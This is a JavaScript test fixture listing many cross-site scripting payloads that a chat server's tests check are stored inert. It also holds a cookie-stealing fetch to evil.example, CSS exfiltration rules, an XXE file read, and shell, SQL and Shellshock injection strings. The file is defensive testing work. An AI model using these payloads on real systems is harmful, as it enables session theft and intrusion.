// What people try who want a page to run what they write: one payload on each
// line, by the idea behind it. If any of it ever works it calls alert(),
// confirm(), prompt() or print(), sets `pwned`, loads something, or breaks the
// page's security policy: xss.test.mjs watches for all of these.
//
// All are kept by the server as they are; what it refuses is in `refused`.

const lines = (text) => text.split("\n").filter((line) => line !== "");

const scripts = lines(String.raw`
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<ScRiPt>pwned=1</sCrIpT>
<script src=//evil.example/x.js></script>
<script src="data:text/javascript,alert(1)"></script>
<script type=module>import("data:text/javascript,alert(1)")</script>
<script type="text/javascript">pwned=1;</script>
<script/src=data:,alert(1)>
<script	>alert(1)</script	>
<script x>alert(1)</script x>
<script>alert(1)
<<script>alert(1);//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>/*</script><svg/onload=alert(1)>*/
<script><!--
<!--<script>alert(1)--></script>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</noscript><script>alert(1)</script>
</template><script>alert(1)</script>
]]><script>alert(1)</script>
--><script>alert(1)</script>
--!><script>alert(1)</script>
?><script>alert(1)</script>
%><script>alert(1)</script>
<script>document.body.innerHTML="<img src=x onerror=alert(1)>"</script>
<script>setTimeout("alert(1)")</script>
<script>new Function("alert(1)")()</script>
<script nonce="">alert(1)</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
`);

const handlers = lines(String.raw`
<img src=x onerror=alert(1)>
<img src=x onerror="pwned=1">
<img src=x onerror='confirm(1)'>
<IMG SRC=X ONERROR=ALERT(1)>
<img/src=x/onerror=alert(1)>
<img src onerror=alert(1)>
<img srcset=x onerror=alert(1)>
<img src=x:x onerror=alert(1)//
<img """><script>alert(1)</script>">
<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
<img src=x onerror=\u0061lert(1)>
<img src=x onerror=eval(atob('YWxlcnQoMSk='))>
<img src=x onerror=[1].find(alert)>
<img src=x onerror=top['al'+'ert'](1)>
<img src=x onerror=window.onerror=alert;throw/**/1>
<img src=x onload=prompt(1) onerror=prompt(1)>
<image src=x onerror=alert(1)>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body onhashchange=alert(1)><a href=#x>x</a>
<body onresize=alert(1)>
<body onscroll=alert(1)>
<frameset onload=alert(1)>
<input autofocus onfocus=alert(1)>
<input onblur=alert(1) autofocus><input autofocus>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<button autofocus onfocus=alert(1)>x</button>
<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>
<video><source onerror=alert(1)>
<video src=x onerror=alert(1)>
<video poster=x onloadstart=alert(1)><source src=x>
<audio src=x onerror=alert(1)>
<audio controls oncanplay=alert(1)><source src=data:,>
<details open ontoggle=alert(1)>
<details/open/ontoggle=pwned=1>x
<marquee onstart=alert(1)>x</marquee>
<marquee loop=1 width=0 onfinish=alert(1)>
<object onerror=alert(1) data=x:>
<embed src=x: onload=alert(1)>
<iframe onload=alert(1)>
<iframe src=x onload="pwned=1"></iframe>
<style onload=alert(1)></style>
<link rel=stylesheet href=x onerror=alert(1)>
<p onmouseover=alert(1)>over</p>
<a onclick=alert(1)>click</a>
<div onpointerenter=alert(1) style=position:fixed;inset:0>x</div>
<div onwheel=alert(1)>x</div>
<div onanimationstart=alert(1) style="animation:x 1s">
<div ontransitionend=alert(1) style="transition:all 1s;color:red">
<div contenteditable onbeforeinput=alert(1)>x</div>
<div tabindex=1 autofocus onfocusin=alert(1)>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form>
<form onsubmit=alert(1)><input type=submit>
<form><button formaction=javascript:alert(1)>x</button></form>
<isindex type=image src=1 onerror=alert(1)>
<xss onafterscriptexecute=alert(1)><script>1</script>
<xss contentvisibilityautostatechange=alert(1) style=display:block;content-visibility:auto>
<custom-element onfocus=alert(1) autofocus tabindex=1>
`);

const foreign = lines(String.raw`
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href="data:text/javascript,alert(1)"/>
<svg><script>&#97;lert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x</text></a></svg>
<svg><set attributeName=href to=javascript:alert(1)><a><text>x</text></a>
<svg><set onend=alert(1) attributename=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/>
<svg><image href=x onerror=alert(1)>
<svg><foreignObject><iframe onload=alert(1)></foreignObject>
<svg><style><img src=x onerror=alert(1)></style>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><script>alert(1)</script></desc></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>
<svg><discard onbegin=alert(1)>
<svg xmlns="#"><script>alert(1)</script></svg>
<svg><p><style><g title="</style><img src=x onerror=alert(1)>">
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
`);

const frames = lines(String.raw`
<iframe src=javascript:alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>parent.pwned=1</script>">
<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'>
<iframe src="data:text/html,<script>parent.alert(1)</script>">
<iframe sandbox=allow-scripts srcdoc="<script>alert(1)</script>">
<object data="javascript:alert(1)">
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<embed src="javascript:alert(1)">
<embed src="data:text/html,<script>alert(1)</script>">
<frame src=javascript:alert(1)>
<portal src=javascript:alert(1)>
<applet code=x.class archive=//evil.example/x.jar>
<base href="javascript:alert(1)//">
<base href=//evil.example/>
<base target="_top">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">
<meta http-equiv=Set-Cookie content="ajaxchat=x">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=stylesheet href=//evil.example/x.css>
<link rel=manifest href=//evil.example/x>
<link rel=prefetch href=//evil.example/beacon>
<import namespace="x" implementation="//evil.example/x.htc">
<img src=//evil.example/beacon.gif>
<img src="/chat/v1/session" width=1>
<video poster=//evil.example/x>
<picture><source srcset=//evil.example/x><img>
<table background=//evil.example/x>
<form action=//evil.example method=post><input name=nick autofocus>
<form action="/chat/v1/session" method=post id=join-form>
`);

const addresses = lines(String.raw`
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript://example.org/%0aalert(1)
javascript://https://example.org/%0aalert(1)
javascript&colon;alert(1)
&#106;avascript:alert(1)
java&#x09;script:alert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=alert(1)>
vbscript:msgbox(1)
view-source:javascript:alert(1)
blob:https://example.org/x
filesystem:https://example.org/x
file:///etc/passwd
feed:javascript:alert(1)
jar:javascript:alert(1)!/
mhtml:javascript:alert(1)
livescript:alert(1)
mailto:a@b.example?subject=<script>alert(1)</script>
//evil.example/x
\\evil.example\x
<a href="javascript:alert(1)">click</a>
<a href=javascript:alert(1)>click</a>
<a href="jav&#x09;ascript:alert(1)">click</a>
<a href="&#14;javascript:alert(1)">click</a>
<a href="data:text/html,<script>alert(1)</script>">click</a>
<a target=_blank href=//evil.example>window.opener</a>
<a ping=//evil.example href=#>x</a>
<area shape=default href=javascript:alert(1)>
<map><area href=javascript:alert(1)>
[click](javascript:alert(1))
[click](data:text/html,<script>alert(1)</script>)
![x](x"onerror="alert(1))
[x]: javascript:alert(1)
<javascript:alert(1)>
[a](<javascript:alert(1)>)
https://example.org/"onmouseover="alert(1)
https://example.org/'onclick='alert(1)
https://example.org/<script>alert(1)</script>
https://example.org/?x=%3Cscript%3Ealert(1)%3C/script%3E
https://example.org/#"><img src=x onerror=alert(1)>
https://bank.example@evil.example/
https://bank.example:pass@evil.example/
https://user:javascript:alert(1)@evil.example/
https://evil.example\@bank.example/
https://evil.example/..;/
https://xn--pple-43d.example/
https://1.1.1.1 &@2.2.2.2# @3.3.3.3/
http://[::1]:80/
http://0x7f.1/
http:javascript:alert(1)
https:javascript:alert(1)
http:/example.org/
https:///evil.example
https://a.example/)))))))))))))))
https://a.example/((((((((((((((((
https://a.example/_b_*c*/**d**
httpshttps://a.example/
HTTPS://A.EXAMPLE/%00
https://a.example/\u202ecod.exe
`);

const breakouts = lines(String.raw`
"><script>alert(1)</script>
'><script>alert(1)</script>
"><img src=x onerror=alert(1)>
'"><svg/onload=alert(1)>
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
x onclick=alert(1) y=
"style="background:url(javascript:alert(1))
"/><script>alert(1)</script>
";alert(1);//
';alert(1);//
\";alert(1);//
\';alert(1);//
</script><svg onload=alert(1)>
");alert(1);("
'+alert(1)+'
"-alert(1)-"
'-alert(1)-'
");alert(1)//
*/alert(1)/*
//alert(1)
-->alert(1)<!--
{"text":"x","type":"join"}
","type":"topic","topic":"pwned
{"__proto__":{"pwned":1}}
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cscript\x3ealert(1)\x3c/script\x3e
\74script\76alert(1)\74/script\76
data: {"next":"x"}
event: message
id: k3v9q2c7ym.1
`);

const encodings = lines(String.raw`
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
&#0000060script&#0000062alert(1)
&#60script&#62alert(1)
&LT;script&GT;alert(1)
&ltscript&gtalert(1)
&lbrace;&lbrace;alert(1)&rbrace;&rbrace;
&nbsp;&zwnj;&shy;&ZeroWidthSpace;
&quot;onclick=&quot;alert(1)
&apos;;alert(1)//
&NewLine;&Tab;&colon;&lpar;&rpar;
%3Cscript%3Ealert(1)%3C%2Fscript%3E
%253Cscript%253Ealert(1)%253C/script%253E
%u003Cscript%u003Ealert(1)
%C0%BCscript%C0%BEalert(1)
%00%0d%0aSet-Cookie:%20x=1
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
‹script›alert(1)‹/script›
〈script〉alert(1)〈/script〉
ʺonclick=alert(1)
＂onclick=alert(1)
PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
¼script¾alert(1)¼/script¾
<ſcript>alert(1)</ſcript>
<ıframe onload=alert(1)>
<K onfocus=alert(1)>
`);

const templates = lines(String.raw`
{{constructor.constructor('alert(1)')()}}
{{7*7}}
{{this.constructor.constructor("alert(1)")()}}
{{$on.constructor('alert(1)')()}}
{{_openBlock.constructor('alert(1)')()}}
\${alert(1)}
\${{constructor.constructor('alert(1)')()}}
#{alert(1)}
<%= alert(1) %>
<?php echo 1; ?>
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>
<![CDATA[<script>alert(1)</script>]]>
<!--#exec cmd="id"-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
{nick} {text} {count} {0}
{who} is writing… {room}
%s %d %n %x %@
$& $1 $\x27 $<name>
[object Object]
ng-app ng-csp ng-click=$event.view.alert(1)
<div ng-app>{{constructor.constructor('alert(1)')()}}</div>
<div v-html="'<img src=x onerror=alert(1)>'"></div>
<div x-data x-init="alert(1)">
<p data-bind="html: alert(1)">
<div hx-on:load="alert(1)">
<div data-t="page.title" data-label="x" data-icon="close">
<template><script>alert(1)</script></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<slot name=x onslotchange=alert(1)>
`);

const styles = lines(String.raw`
<style>*{background:url(//evil.example)}</style>
<style>@import "//evil.example/x.css";</style>
<style>body{display:none}</style>
<style>input[value^="a"]{background:url(//evil.example/a)}</style>
<style>@font-face{font-family:x;src:url(//evil.example/x)}</style>
<div style="background:url(javascript:alert(1))">
<div style="width:expression(alert(1))">
<div style="behavior:url(x.htc)">
<div style="-moz-binding:url(//evil.example/x.xml#x)">
<div style="position:fixed;inset:0;z-index:9999;background:red">
<p style="color:red;font-size:900px">huge</p>
}*{display:none}
--accent:red;}body{display:none
</style><img src=x onerror=alert(1)>
<link rel=stylesheet href="data:text/css,*{display:none}">
<x style="animation:x" onanimationend=alert(1)>
`);

const clobbering = lines(String.raw`
<a id=chat></a>
<a id=messages><a id=messages name=firstChild>
<form id=composer><input id=text name=value>
<form name=body><input name=dataset>
<img name=getElementById>
<img name=createElement>
<form id=document><input name=cookie>
<iframe name=pwned srcdoc="">
<a id=defaultView href=x:alert(1)>
<input name=attributes><input name=nodeName>
<object name=currentScript>
<a id=CONFIG name=url href=//evil.example>
<form id=test><output name=children></output></form>
<img id=alert>
<a name=t href=#>
__proto__
constructor
prototype
toString
hasOwnProperty
valueOf
__defineGetter__
undefined
null
NaN
true
`);

const mutations = lines(String.raw`
<noscript><style></noscript><img src=x onerror=alert(1)>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><style><a title="</style><img src=1 onerror=alert(1)>">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style>
<table><caption><svg><title></caption><style><img src=x onerror=alert(1)></style>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">
<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;/s>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=alert(1)>">
<p id="</p><img src=x onerror=alert(1)>">
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><img src=x onerror=alert(1)>
<title><a title="</title><img src=x onerror=alert(1)>">
<textarea><a title="</textarea><img src=x onerror=alert(1)>">
<iframe><a title="</iframe><img src=x onerror=alert(1)>">
<a<img src=x onerror=alert(1)>
<a/href="x"/<img src=x onerror=alert(1)>
<b/alt="1"onmouseover=alert(1)>x
<a href='x'"onclick=alert(1)>
<div id="1
<!-- <!-- --> <img src=x onerror=alert(1)> -->
<! foo="><img src=x onerror=alert(1)>">
</ foo="><img src=x onerror=alert(1)>">
<? foo="><img src=x onerror=alert(1)>">
`);

const polyglots = lines(String.raw`
jaVasCript:/*-/*\x60/*\\\x60/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert()//>\x3e
">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\></|\><plaintext/onmouseover=prompt(1)><script>prompt(1)</script>@gmail.com<isindex formaction=javascript:alert(/XSS/) type=submit>'-->"></script><script>alert(1)</script>"><img/id="confirm&lpar;1)"/alt="/"src="/"onerror=eval(id)>'">
';alert(String.fromCharCode(88,83,83))//';alert(String.fromCharCode(88,83,83))//--></SCRIPT>">'><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>
'">><marquee><h1>XSS</h1></marquee>
javascript:"/*'/*--></noscript></title></textarea></style></template></noembed></script><html \" onmouseover=/*&lt;svg/*/onload=alert()//>
'';!--"<XSS>=&{()}
<svg/onload='fetch("//evil.example?"+document.cookie)'>
' or 1=1; drop table events; --
$(touch /tmp/pwned); ls | cat /etc/passwd &
../../../../etc/passwd
() { :;}; echo pwned
<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>
`);

/* Of the page's own grammar: see js/view/markup.js. */
const marks = [
  "`<script>alert(1)</script>`",
  "```<script>alert(1)</script>```",
  "```html\n<img src=x onerror=alert(1)>\n```",
  "```\"onclick=alert(1)\nx\n```",
  "```onload=alert(1)//\nx\n```",
  "``` not closed <script>alert(1)</script>",
  "```\n``` ```\n``````",
  "`````````",
  "``<img src=x onerror=alert(1)>``",
  "`a`<script>`b`</script>",
  "**<script>alert(1)</script>**",
  "**bold<img src=x onerror=alert(1)**>",
  "*<img src=x onerror=alert(1)>*",
  "_<svg onload=alert(1)>_",
  "***<b>***</b>",
  "**_**_**_**",
  "*_*_*_*_*_*_*_*_*_*_*_*",
  "**a *b **c *d",
  "**https://a.example/\"onclick=alert(1)**",
  "*https://a.example/*<script>alert(1)</script>*",
  "`https://a.example/`",
  "https://a.example/`alert(1)`",
  "_https://a.example/_x_",
  "**[x](javascript:alert(1))**",
  "@<script>alert(1)</script>",
  "@\"onclick=alert(1)",
  "@mara<img src=x onerror=alert(1)>",
  "@mara@mara@mara",
  "*@mara*_@mara_`@mara`",
  ":smile:<script>alert(1)</script>:x:",
  ":<script>:alert(1):</script>:",
  "> quoted <script>alert(1)</script>",
  "# heading\n- list\n1. list\n---\n| a | b |\n|---|---|\n| `c` | **d** |",
  "||spoiler<script>alert(1)</script>||",
  "~~<script>alert(1)</script>~~",
  "<https://a.example/><script>alert(1)</script>",
  "\\*not\\* \\`code\\` \\<script>alert(1)</script>",
  "/me <script>alert(1)</script>",
  "//<script>alert(1)</script>",
  "line\n\n\n<script>\nalert(1)\n</script>\n",
  "<img\nsrc=x\nonerror=alert(1)\n>",
  "\t<img\tsrc=x\tonerror=alert(1)>",
];

/* Characters that turn, hide, or count as others. */
const characters = [
  "\u202e<script>alert(1)</script>",
  "\u202egpj.exe\u202c https://a.example/\u202egpj.exe",
  "\u2066\u2067\u2068 not closed",
  "a\u2069\u2069\u2069\u202c\u202cb",
  "\u200fשלום <img src=x onerror=alert(1)> مرحبا\u200e",
  "\ufeff<script>alert(1)</script>",
  "<scr\u200bipt>alert(1)</scr\u200bipt>",
  "<scr\u00adipt>alert(1)</scr\u00adipt>",
  "\u2028alert(1)\u2029pwned=1",
  "\u0085<script>alert(1)</script>",
  "<\u0001script>\u0008alert(1)\u001f</script>",
  "\u000b\u000c<img\u000csrc=x\u000conerror=alert(1)>",
  "\u001b[31mred\u001b[0m\u0007",
  "\u007f<script>alert(1)</script>",
  "javascript\u003aalert(1)",
  "java\u0009script:alert(1)",
  "Z\u0335\u0321\u0322a\u0334l\u0336g\u0337o\u0338".repeat(20),
  "\ufdfd\u{12031}\u{1242b}",
  "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67<script>",
  "\u{e0001}\u{e003c}\u{e0073} tags",
  "\ufff9\ufffa\ufffb\ufffc\ufffd\uffff",
  "i\u0307 \u0130 \u0131 \u212a \ufb03 \u1e9e",
];

const long = [
  "<script>alert(1)</script>".repeat(150),
  "<div>".repeat(700),
  `<img src=x onerror=alert(1) ${"a".repeat(3000)}>`,
  `https://a.example/${"a/".repeat(1500)}`,
  "**_`".repeat(900),
  "@".repeat(3900),
];

/** Texts that are kept byte by byte. */
export const payloads = [...new Set([scripts, handlers, foreign, frames,
  addresses, breakouts, encodings, templates, styles, clobbering, mutations,
  polyglots, marks, characters, long].flat())];

/** Texts that the server takes from nobody. */
export const refused = ["\u0000<script>alert(1)</script>",
  "<scr\u0000ipt>alert(1)</script>", "\ud83d<script>alert(1)</script>",
  "\u200b", "x".repeat(4001)];
